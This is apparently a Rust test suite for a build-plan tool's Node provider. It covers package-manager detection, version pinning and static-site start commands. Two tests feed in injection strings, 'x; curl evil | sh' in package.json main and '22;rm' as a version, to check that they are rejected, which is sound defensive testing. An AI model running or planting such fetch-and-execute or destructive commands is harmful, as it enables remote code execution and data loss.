use kiln::detect::AppContext;
use kiln::overrides::BuildOverrides;
use kiln::project::{DirListing, ProjectFile, ProjectFiles};
use kiln::providers::node::NodeProvider;
use kiln::providers::Provider;

fn project(files: &[(&str, &str)]) -> ProjectFiles {
    let entries = files.iter().filter(|(p, _)| !p.contains('/')).map(|(p, _)| p.to_string()).collect();
    ProjectFiles {
        root: "/tmp/project".to_string(),
        exists: true,
        files: files
            .iter()
            .map(|(p, c)| ProjectFile { path: p.to_string(), content: Some(c.to_string()) })
            .collect(),
        listings: vec![DirListing { dir: ".".to_string(), entries }],
    }
}

fn ctx(files: &[(&str, &str)]) -> AppContext {
    AppContext::new(project(files)).unwrap()
}

fn ctx_with(files: &[(&str, &str)], overrides: BuildOverrides) -> AppContext {
    AppContext::with_overrides(project(files), overrides).unwrap()
}

const PKG: &str = r#"{"name":"test","scripts":{"start":"node server.js","build":"tsc"}}"#;

fn node_project(pm: &str) -> Vec<(&'static str, &'static str)> {
    let mut files = vec![("package.json", PKG)];
    match pm {
        "npm" => files.push(("package-lock.json", "{}")),
        "bun" => files.push(("bun.lock", "")),
        "pnpm" => files.push(("pnpm-lock.yaml", "")),
        "yarn" => files.push(("yarn.lock", "")),
        _ => {}
    }
    files
}

#[test]
fn rejects_injection_in_package_main() {
    let c = ctx(&[("package.json", r#"{"name":"t","scripts":{},"main":"x; curl evil | sh"}"#)]);
    assert!(NodeProvider.plan(&c).is_err(), "shell metachars in package.json main must be rejected");
}

#[test]
fn detects_node_project() {
    assert!(NodeProvider.detect(&ctx(&[("package.json", "{}")])));
}

#[test]
fn does_not_detect_non_node() {
    assert!(!NodeProvider.detect(&ctx(&[("main.go", "")])));
}

#[test]
fn version_override_changes_node_base_image() {
    let c = ctx_with(
        &node_project("npm"),
        BuildOverrides { version: Some("20".to_string()), ..Default::default() },
    );
    let plan = NodeProvider.plan(&c).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "node:20"), "build image");
    assert!(plan.stages.iter().any(|s| s.base_image == "node:20-slim"), "runtime image");
}

#[test]
fn nvmrc_sets_node_version() {
    let mut files = node_project("npm");
    files.push((".nvmrc", "18\n"));
    let plan = NodeProvider.plan(&ctx(&files)).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "node:18-slim"));
}

#[test]
fn tool_versions_sets_node_version() {
    let mut files = node_project("npm");
    files.push((".tool-versions", "nodejs 21.6.2\n"));
    let plan = NodeProvider.plan(&ctx(&files)).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "node:21.6.2-slim"));
}

#[test]
fn mise_toml_sets_node_version_and_nvmrc_wins_over_it() {
    let mut files = node_project("npm");
    files.push(("mise.toml", "[tools]\nnode = \"20\"\n"));
    let plan = NodeProvider.plan(&ctx(&files)).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "node:20-slim"));

    files.push((".nvmrc", "18\n"));
    let plan = NodeProvider.plan(&ctx(&files)).unwrap();
    assert!(plan.stages.iter().any(|s| s.base_image == "node:18-slim"));
}

#[test]
fn detects_npm() {
    let plan = NodeProvider.plan(&ctx(&node_project("npm"))).unwrap();
    assert_eq!(plan.provider, "node");
    assert!(plan.stages[0].commands[0].run.contains("npm ci"));
    assert!(plan.stages[0].commands[0].cache_mounts.contains(&"/root/.npm".to_string()));
}

#[test]
fn detects_bun() {
    let plan = NodeProvider.plan(&ctx(&node_project("bun"))).unwrap();
    assert!(plan.stages[0].commands[0].run.contains("bun install"));
}

#[test]
fn generates_build_stage_when_build_script_exists() {
    let plan = NodeProvider.plan(&ctx(&node_project("npm"))).unwrap();
    assert_eq!(plan.stages.len(), 3);
    assert_eq!(plan.stages[1].name, "build");
}

#[test]
fn skips_build_stage_when_no_build_script() {
    let c = ctx(&[
        ("package.json", r#"{"name":"test","scripts":{"start":"node index.js"}}"#),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.stages.len(), 2);
    assert_eq!(plan.stages[0].name, "deps");
    assert_eq!(plan.stages[1].name, "runtime");
}

#[test]
fn detects_start_command() {
    let plan = NodeProvider.plan(&ctx(&node_project("npm"))).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("npm start"));
}

const NEXT_PKG: &str =
    r#"{"name":"web","scripts":{"build":"next build","start":"next start"},"dependencies":{"next":"13.5.1"}}"#;

fn next_project(config: &'static str) -> Vec<(&'static str, &'static str)> {
    vec![("package.json", NEXT_PKG), ("package-lock.json", "{}"), ("next.config.js", config)]
}

#[test]
fn next_static_export_serves_out_instead_of_next_start() {
    let c = ctx(&next_project(
        "const nextConfig = { output: 'export', images: { unoptimized: true } };\nmodule.exports = nextConfig;",
    ));
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve out -l 3000"));
    let runtime = plan.stages.last().unwrap();
    assert_eq!(runtime.name, "runtime");
    assert!(runtime.commands.iter().any(|c| c.run.contains("serve")), "runtime should install a static server");
}

#[test]
fn next_export_detected_with_double_quotes_and_whitespace() {
    let c = ctx(&next_project("module.exports = {\n  output:   \"export\",\n};"));
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve out -l 3000"));
}

#[test]
fn vite_project_serves_dist_statically() {
    let c = ctx(&[
        ("package.json", r#"{"name":"w","scripts":{"build":"vite build"},"devDependencies":{"vite":"^5"}}"#),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve dist -l 3000"));
    let runtime = plan.stages.last().unwrap();
    assert!(runtime.commands.iter().any(|c| c.run.contains("serve")));
}

#[test]
fn astro_project_serves_dist_statically() {
    let c = ctx(&[
        ("package.json", r#"{"name":"w","scripts":{"build":"astro build"},"dependencies":{"astro":"^4"}}"#),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve dist -l 3000"));
}

#[test]
fn cra_project_serves_build_statically() {
    let c = ctx(&[
        (
            "package.json",
            r#"{"name":"w","scripts":{"build":"react-scripts build"},"dependencies":{"react-scripts":"5.0.1"}}"#,
        ),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve build -l 3000"));
}

#[test]
fn sveltekit_static_adapter_serves_build_dir() {
    let c = ctx(&[
        (
            "package.json",
            r#"{"name":"w","scripts":{"build":"vite build"},"devDependencies":{"@sveltejs/kit":"^2","@sveltejs/adapter-static":"^3"}}"#,
        ),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    // vite is not a dependency here, so the static adapter decides
    assert_eq!(plan.start_command.as_deref(), Some("serve build -l 3000"));
}

const ANGULAR_JSON: &str = r#"{"projects":{"w":{"architect":{"build":{"options":{"outputPath":"dist/w"}}}}}}"#;

#[test]
fn angular_v17_serves_output_browser_subdir() {
    let c = ctx(&[
        ("package.json", r#"{"name":"w","scripts":{"build":"ng build"},"dependencies":{"@angular/core":"^17.1.0"}}"#),
        ("angular.json", ANGULAR_JSON),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve dist/w/browser -l 3000"));
}

#[test]
fn angular_pre_v17_serves_output_path_directly() {
    let c = ctx(&[
        ("package.json", r#"{"name":"w","scripts":{"build":"ng build"},"dependencies":{"@angular/core":"^15.2.0"}}"#),
        ("angular.json", ANGULAR_JSON),
        ("package-lock.json", "{}"),
    ]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("serve dist/w -l 3000"));
}

#[test]
fn next_without_export_uses_next_start() {
    let c = ctx(&next_project("module.exports = { reactStrictMode: true };"));
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("npm start"));
    let runtime = plan.stages.last().unwrap();
    assert!(runtime.commands.is_empty());
}

#[test]
fn pnpm_enables_corepack_across_stages() {
    let plan = NodeProvider.plan(&ctx(&node_project("pnpm"))).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(deps.commands[0].run, "corepack enable && pnpm install --frozen-lockfile && mkdir -p node_modules");
    let build = plan.stages.iter().find(|s| s.name == "build").unwrap();
    assert_eq!(build.commands[0].run, "corepack enable && pnpm run build");
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert!(runtime.commands.iter().any(|c| c.run == "corepack enable"));
}

#[test]
fn bun_installs_itself_and_npm_needs_no_setup() {
    let bun_plan = NodeProvider.plan(&ctx(&node_project("bun"))).unwrap();
    let bun_deps = bun_plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(bun_deps.commands[0].run, "npm install -g bun && bun install && mkdir -p node_modules");

    let npm_plan = NodeProvider.plan(&ctx(&node_project("npm"))).unwrap();
    let npm_deps = npm_plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(npm_deps.commands[0].run, "npm ci && mkdir -p node_modules");
}

#[test]
fn yarn_enables_corepack_across_stages() {
    let plan = NodeProvider.plan(&ctx(&node_project("yarn"))).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(deps.commands[0].run, "corepack enable && yarn install --frozen-lockfile && mkdir -p node_modules");
    let build = plan.stages.iter().find(|s| s.name == "build").unwrap();
    assert_eq!(build.commands[0].run, "corepack enable && yarn run build");
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert!(runtime.commands.iter().any(|c| c.run == "corepack enable"));
}

#[test]
fn npm_without_lockfile_uses_install_not_ci() {
    let c = ctx(&[("package.json", r#"{"name":"t","scripts":{"start":"node i.js"}}"#)]);
    let plan = NodeProvider.plan(&c).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(deps.commands[0].run, "npm install && mkdir -p node_modules");
    assert_eq!(deps.copy_files.len(), 1);
    assert_eq!(deps.copy_files[0].src, "package.json package-lock.json*");
}

#[test]
fn pnpm_override_without_lockfile_drops_frozen_flag() {
    let c = ctx_with(
        &[("package.json", r#"{"name":"t"}"#)],
        BuildOverrides {
            package_manager: Some("pnpm".to_string()),
            install_command: None,
            build_command: None,
            start_command: None,
            ..Default::default()
        },
    );
    let plan = NodeProvider.plan(&c).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(deps.commands[0].run, "corepack enable && pnpm install && mkdir -p node_modules");
    assert_eq!(deps.copy_files[0].src, "package.json pnpm-lock.yaml*");
}

#[test]
fn overrides_take_precedence_over_detection() {
    let c = ctx_with(
        &node_project("npm"),
        BuildOverrides {
            package_manager: Some("pnpm".to_string()),
            install_command: Some("pnpm install --prod".to_string()),
            build_command: Some("pnpm turbo build".to_string()),
            start_command: Some("node dist/main.js".to_string()),
            ..Default::default()
        },
    );
    let plan = NodeProvider.plan(&c).unwrap();
    let deps = plan.stages.iter().find(|s| s.name == "deps").unwrap();
    assert_eq!(deps.commands[0].run, "corepack enable && pnpm install --prod && mkdir -p node_modules");
    let build = plan.stages.iter().find(|s| s.name == "build").unwrap();
    assert_eq!(build.commands[0].run, "corepack enable && pnpm turbo build");
    assert_eq!(plan.start_command.as_deref(), Some("node dist/main.js"));
    let runtime = plan.stages.iter().find(|s| s.name == "runtime").unwrap();
    assert!(runtime.commands.is_empty());
}

#[test]
fn node_main_becomes_the_start_command() {
    let c = ctx(&[("package.json", r#"{"name":"t","scripts":{},"main":"dist/index.js"}"#)]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command.as_deref(), Some("node dist/index.js"));
    let c = ctx(&[("package.json", r#"{"name":"t","main":"dist/index.js"}"#)]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.start_command, None, "no scripts, no start command");
}

#[test]
fn node_plan_in_full_without_build_script() {
    let c = ctx(&[("package.json", r#"{"scripts":{"start":"x"}}"#), ("yarn.lock", "")]);
    let plan = NodeProvider.plan(&c).unwrap();
    assert_eq!(plan.port, Some(3000));
    assert_eq!(plan.stages.len(), 2);
    let deps = &plan.stages[0];
    assert_eq!(deps.base_image, "node:22");
    assert_eq!(deps.copy_files[0].src, "package.json yarn.lock*");
    assert_eq!(deps.commands[0].cache_mounts, vec!["/usr/local/share/.cache/yarn".to_string()]);
    let runtime = &plan.stages[1];
    assert_eq!(runtime.base_image, "node:22-slim");
    assert_eq!(runtime.copy_files.len(), 1);
    assert_eq!(runtime.copy_from.len(), 1);
    assert_eq!(runtime.copy_from[0].stage, "deps");
    assert_eq!(runtime.commands[0].run, "corepack enable");
}

#[test]
fn unsafe_node_version_is_rejected() {
    let c = ctx_with(&node_project("npm"), BuildOverrides { version: Some("22;rm".to_string()), ..Default::default() });
    assert!(NodeProvider.plan(&c).is_err());
}
